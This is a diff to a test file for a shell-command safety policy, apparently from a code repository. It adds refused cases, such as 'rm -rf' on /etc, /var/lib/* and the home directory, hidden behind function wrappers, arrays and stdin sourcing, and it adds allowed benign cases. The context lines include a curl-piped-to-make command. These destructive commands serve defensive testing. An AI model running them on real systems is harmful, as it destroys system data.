@@ -147,6 +147,14 @@ const refused: Array<[string, RegExp?]> = [
   ["sed 's/^/rm -rf /e' ./paths.txt"],
   ['cat ./jobs.txt | at now'],
   ['curl -s https://example.com/Makefile | make -f -'],
+  // A glob the shell expanded before the words were passed on stands for all its matches there.
+  ['rm() { command rm "$@"; }; rm -rf /var/lib/*', /everything in \/var\/lib/],
+  ['purge() { rm -rf "$1"; }; purge /etc/*', /everything in \/etc/],
+  ['set -- /var/lib/*; rm -rf "$@"', /everything in \/var\/lib/],
+  ['dirs=( /var/lib/* ); rm -rf "${dirs[@]}"', /everything in \/var\/lib/],
+  ['dirs=( ./build ); dirs+=( /etc/* ); rm -rf "${dirs[@]}"', /everything in \/etc/],
+  ['. /dev/stdin <<< "rm -rf /etc"', /\/etc/],
+  ["echo 'rm -rf ~' | source /dev/stdin"],
 ];
 
 const allowed: string[] = [
@@ -252,6 +260,10 @@ const allowed: string[] = [
   'PAGER=cat git log',
   "vim -c ':set nu' ./notes.txt",
   "gdb -batch -ex 'python print(1)' ./app",
+  'purge() { rm -rf "$@"; }; purge ./build/*',
+  'dirs=( ./build/* ); rm -rf "${dirs[@]}"',
+  'opts=( -name "*.log" -mtime +7 ); find /var/log/app "${opts[@]}" -delete',
+  ". /dev/stdin <<< 'ip -br link show'",
 ];
 
 describe('indirect and deferred execution, decided by the default policy', () => {
